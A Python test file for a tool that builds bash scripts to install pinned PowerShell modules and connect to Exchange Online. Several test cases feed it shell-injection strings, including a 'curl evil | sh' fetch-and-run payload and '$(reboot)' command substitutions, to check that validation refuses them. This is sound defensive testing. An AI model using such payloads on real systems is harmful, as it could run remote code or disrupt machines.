"""The bash exomi runs on a Linux VM (Run Command RunShellScript): only validated values reach it, and
the PowerShell inside it sits in a quoted here-document that bash never expands."""

from __future__ import annotations

import re
import subprocess

import pytest

from shared.errors import InputError
from shared.runbooks import (
    PWSH_VERSION,
    connect_line,
    connect_shell_script,
    install_modules_shell_script,
)
from shared.settings import ExchangeEnvironment

CLIENT_ID = "0f1e2d3c-4b5a-4968-8776-655443322110"
MODULES = {"PackageManagement": "1.4.8.1", "PowerShellGet": "2.2.5", "ExchangeOnlineManagement": "3.5.1"}


def _here_document(script: str) -> str:
    """The PowerShell between the here-document's tags (the tag is quoted: bash expands nothing)."""
    match = re.search(r"<<'(?P<tag>EXOMI_PS1)'\n(?P<body>.*?)\n(?P=tag)\n", script, re.DOTALL)
    assert match is not None, script
    return match["body"]


def test_install_script_pins_pwsh_and_every_module():
    script = install_modules_shell_script(MODULES)
    assert script.startswith("#!/bin/bash\n") and "\nset -euo pipefail\n" in script
    assert f'!= "PowerShell {PWSH_VERSION}" ]' in script
    url = f"https://github.com/PowerShell/PowerShell/releases/download/v{PWSH_VERSION}/powershell_{PWSH_VERSION}-1.deb_amd64.deb"
    assert url in script
    body = _here_document(script)
    assert body.splitlines() == [
        "$ErrorActionPreference = 'Stop'",
        *(
            f"Install-Module -Name {n} -RequiredVersion {v} -Force -AllowClobber -Scope AllUsers"
            for n, v in MODULES.items()
        ),
        "Get-InstalledModule -Name PackageManagement,PowerShellGet,ExchangeOnlineManagement",
    ]
    assert "pwsh -NoProfile -NonInteractive -File /var/lib/exomi/install-modules.ps1" in script


@pytest.mark.parametrize("environment", list(ExchangeEnvironment))
def test_connect_script_runs_the_same_connect_line_under_pwsh(environment):
    script = connect_shell_script("contoso.onmicrosoft.com", CLIENT_ID, environment)
    body = _here_document(script)
    assert (
        body.splitlines()[1]
        == connect_line("contoso.onmicrosoft.com", CLIENT_ID, environment) + " -ShowBanner:$false"
    )
    assert "Get-AcceptedDomain | Format-Table Name" in body
    assert "pwsh -NoProfile -NonInteractive -File /var/lib/exomi/connect-exchange-online.ps1" in script


@pytest.mark.parametrize(
    ("modules", "pwsh_version"),
    [
        ({"ExchangeOnlineManagement": "3.5.1; curl evil | sh"}, PWSH_VERSION),
        ({"Exchange$(reboot)": "3.5.1"}, PWSH_VERSION),
        ({"EXOMI_PS1\nreboot": "3.5.1"}, PWSH_VERSION),
        (MODULES, "7.4.6; reboot"),
        (MODULES, '7.4.6" ]; then reboot; fi; if [ "'),
    ],
)
def test_values_that_are_not_names_or_versions_are_refused(modules, pwsh_version):
    with pytest.raises(InputError):
        install_modules_shell_script(modules, pwsh_version)


@pytest.mark.parametrize(
    ("organization", "client_id"),
    [
        ("contoso.com'; reboot; echo '", None),
        ("contoso.com\nEXOMI_PS1\nreboot", None),
        ("$(reboot).contoso.com", None),
        ("contoso.com", "$(reboot)"),
    ],
)
def test_connect_values_are_validated(organization, client_id):
    with pytest.raises((InputError, ValueError)):
        connect_shell_script(organization, client_id, ExchangeEnvironment.DEFAULT)


def test_the_scripts_are_valid_bash():
    for script in (
        install_modules_shell_script(MODULES),
        connect_shell_script("contoso.onmicrosoft.com", None, ExchangeEnvironment.DEFAULT),
    ):
        checked = subprocess.run(["bash", "-n"], input=script, text=True, capture_output=True, check=False)
        assert checked.returncode == 0, checked.stderr
